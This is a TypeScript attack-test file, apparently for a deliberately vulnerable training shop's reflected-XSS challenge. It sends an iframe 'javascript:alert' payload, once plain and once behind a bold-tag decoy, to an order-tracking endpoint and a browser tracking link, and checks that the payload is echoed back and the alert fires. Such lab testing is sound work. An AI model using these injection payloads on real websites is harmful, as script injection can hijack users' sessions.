import type { Attack, Tools } from '#lab'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

async function track({ http, expect }: Tools, id: string): Promise<void> {
  const answer = await http.get(`/rest/track-order/${encodeURIComponent(id)}`)
  const [order] = answer.json<{ data: { orderId: string }[] }>().data
  expect(order?.orderId.includes(PAYLOAD) === true, 'the shop does not say it again')
}

export const attacks: Attack[] = [
  {
    challenge: 'reflectedXssChallenge',
    name: 'track an order that is a player',
    run: (tools) => track(tools, PAYLOAD),
  },
  {
    challenge: 'reflectedXssChallenge',
    name: 'the payload behind a decoy',
    run: (tools) => track(tools, `<b>${PAYLOAD}`),
  },
  {
    challenge: 'reflectedXssChallenge',
    name: 'follow a prepared link to the tracking page',
    runs: 'browser',
    run: async ({ browser, expect }) => {
      await browser.open(`/#/track-result?id=${encodeURIComponent(PAYLOAD)}`)
      expect((await browser.alerts()).includes('xss'), 'no script ran')
    },
  },
]
